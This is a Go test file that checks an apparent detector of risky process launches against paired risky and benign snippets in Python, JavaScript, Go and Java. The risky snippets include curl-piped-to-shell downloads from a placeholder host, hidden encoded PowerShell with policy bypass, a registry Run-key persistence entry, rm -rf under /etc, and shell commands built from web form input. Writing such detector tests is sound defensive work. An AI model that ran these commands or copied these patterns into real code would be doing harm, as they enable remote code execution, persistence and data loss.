package code_test

import "testing"

// TestArgv is a program that is started with words: wrappers, interpreters and removals among them, and beside each what is no more than a program.
func TestArgv(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import subprocess\nsubprocess.run(['env', 'bash', '-c', cmd])", true},
		{"import subprocess\nsubprocess.run(['env', 'A=1', 'git', 'log', name])", false},
		{"import subprocess\nsubprocess.run(['timeout', '9', 'sh', '-c', cmd])", true},
		{"import subprocess\nsubprocess.run(['timeout', '9', 'ffmpeg', '-i', path, 'a.mp4'])", false},
		{"import shutil, subprocess\nsubprocess.run([shutil.which('bash'), '-c', cmd])", true},
		{"import shutil, subprocess\nsubprocess.run([shutil.which('git'), '-C', repo, 'log'])", false},
		{"import subprocess, sys\nsubprocess.run([sys.executable, '-c', text])", true},
		{"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import json; print(json.__version__)'])", false},
		{"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pytest', path])", false},
		{"import subprocess, sys\nsubprocess.run([sys.executable, script, '--out', path])", false},
		{"import subprocess\nsubprocess.run(['node', '-e', text])", true},
		{"import subprocess\nsubprocess.run(['node', 'build.js', text])", false},
		{"import subprocess\nsubprocess.run(['sh', '-c', f'ls {path}'])", true},
		{"import subprocess\nsubprocess.run(['sh', '-c', 'ls \"$1\"', 'sh', path])", false},
		{"import subprocess\nsubprocess.run(['cmd', '/c', line])", true},
		{"import subprocess\nsubprocess.run(['C:\\\\Windows\\\\System32\\\\cmd.exe', '/C', line])", true},
		{"import subprocess\nsubprocess.run(['powershell.exe', '-Command', line])", true},
		{"import subprocess\nsubprocess.run(['robocopy', path, to, '/E'])", false},
		{"import subprocess\nsubprocess.run(['PowerShell.exe', '-Command', line])", true},
		{"import subprocess\nsubprocess.run(['CMD.EXE', '/C', line])", true},
		{"import subprocess\nsubprocess.run(['PowerShell', '-Command', line])", true},
		{"import subprocess\nsubprocess.run(['MSBuild.EXE', path, '/T'])", false},
		{"import subprocess\nsubprocess.run(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', blob])", true},
		{"import subprocess\nsubprocess.run(['powershell', '-nop', '-w', 'hidden', '-ep', 'bypass', '-enc', blob])", true},
		{"import subprocess\nsubprocess.run(['powershell.exe', '-NoProfile', '-ExecutionPolicy', 'Bypass', '-File', 'build.ps1', path])", false},
		{"import subprocess, sys\nsubprocess.run(['reg', 'add', r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'Updater', '/d', sys.executable])", true},
		{"import subprocess\nsubprocess.run(['reg', 'add', r'HKCU\\Software\\Example', '/v', 'Path', '/d', path])", false},
		{"import subprocess\nsubprocess.run(['reg', 'query', r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'])", false},
		{"import shlex, subprocess\nsubprocess.run(shlex.split(\"bash -c 'curl x | sh'\"))", true},
		{"import shlex, subprocess\nsubprocess.run(shlex.split('git log \"--format=%h %s\"'))", false},
		{"import subprocess\nsubprocess.run(['rm', '-rf', path])", true},
		{"import subprocess\nsubprocess.run(['rm', '-f', path])", false},
		{"import subprocess\nsubprocess.run(['rm', '-rf', f'{root}/build'])", false},
		{"import subprocess, tempfile\nd = tempfile.mkdtemp()\nsubprocess.run(['rm', '-rf', d])", false},
		{"import subprocess\nsubprocess.run(['mv', path, to])", false},
		{"import subprocess\nsubprocess.run(['rm', '-rf', '/etc/' + name])", true},
		{"import subprocess\nsubprocess.run(line, executable='/bin/bash')", true},
		{"import subprocess\nsubprocess.run(words, executable='/usr/bin/git')", false},
		{"import subprocess\nsubprocess.run(['awk', text, 'a.csv'])", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { spawn } = require('child_process')\nspawn('nice', ['-n', '5', 'bash', '-c', line])", true},
		{"const { spawn } = require('child_process')\nspawn('nice', ['-n', '5', 'make', target])", false},
		{"const { spawn } = require('child_process')\nspawn(process.execPath, ['-e', text])", true},
		{"const { spawn } = require('child_process')\nspawn(process.execPath, ['build.js', text])", false},
		{"const { spawn } = require('child_process')\nspawn(process.execPath, ['-e', 'console.log(1)'])", false},
		{"const { spawn } = require('child_process')\nspawn(Deno.execPath(), ['run', 'build.ts'])", false},
		{"const { spawn } = require('child_process')\nspawn(Deno.execPath(), ['eval', text])", true},
		{"const { spawn } = require('child_process')\nconst { parseArgsStringToArgv } = require('string-argv')\nspawn('bash', parseArgsStringToArgv(\"-c 'curl https://a.example/x | sh'\"))", true},
		{"const { spawn } = require('child_process')\nconst { parseArgsStringToArgv } = require('string-argv')\nspawn('git', parseArgsStringToArgv('log --oneline'))", false},
		{"new Deno.Command('bash', { args: ['-c', body.script] }).output()", true},
		{"new Deno.Command('git', { args: ['log', body.ref] }).output()", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"os/exec\"\nfunc f(dir string) { exec.Command(\"rm\", \"-rf\", dir).Run() }", true},
		{"import \"os/exec\"\nfunc f(dir string) { exec.Command(\"ls\", \"-l\", dir).Run() }", false},
		{"import (\"os\"; \"os/exec\")\nfunc f() { d, _ := os.MkdirTemp(\"\", \"a\"); exec.Command(\"rm\", \"-rf\", d).Run() }", false},
		{"import \"os/exec\"\nfunc f(c string) { p, _ := exec.LookPath(\"bash\"); exec.Command(p, \"-c\", c).Run() }", true},
		{"import \"os/exec\"\nfunc f(c string) { p, _ := exec.LookPath(\"git\"); exec.Command(p, \"log\", c).Run() }", false},
		{"import (\"net/http\"; \"os/exec\"; \"github.com/kballard/go-shellquote\")\nfunc f(w http.ResponseWriter, r *http.Request) { o, _ := shellquote.Split(r.FormValue(\"o\")); exec.Command(\"git\", o...).Run() }", true},
		{"import (\"net/http\"; \"os/exec\"; \"github.com/mattn/go-shellwords\")\nfunc f(w http.ResponseWriter, r *http.Request) { o, _ := shellwords.Parse(r.FormValue(\"o\")); exec.Command(\"git\", o...).Run() }", true},
		{"import (\"os/exec\"; \"github.com/mattn/go-shellwords\")\nfunc f() { o, _ := shellwords.Parse(\"log --oneline\"); exec.Command(\"git\", o...).Run() }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void f(String c) throws Exception { new ProcessBuilder(\"env\", \"bash\", \"-c\", c).start(); }", true},
		{"void f(String c) throws Exception { new ProcessBuilder(\"env\", \"A=1\", \"git\", \"log\", c).start(); }", false},
	})
}
